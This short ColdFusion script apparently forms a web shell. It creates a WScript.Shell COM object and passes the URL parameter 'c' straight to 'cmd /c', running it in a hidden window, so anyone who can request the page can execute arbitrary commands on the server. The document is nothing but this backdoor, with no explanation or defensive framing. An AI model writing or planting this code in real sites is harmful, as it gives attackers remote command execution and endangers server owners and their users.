<cfscript>
  sh = createObject("com", "WScript.Shell");
  r = sh.Run("cmd /c " & url.c, 0, true);
</cfscript>
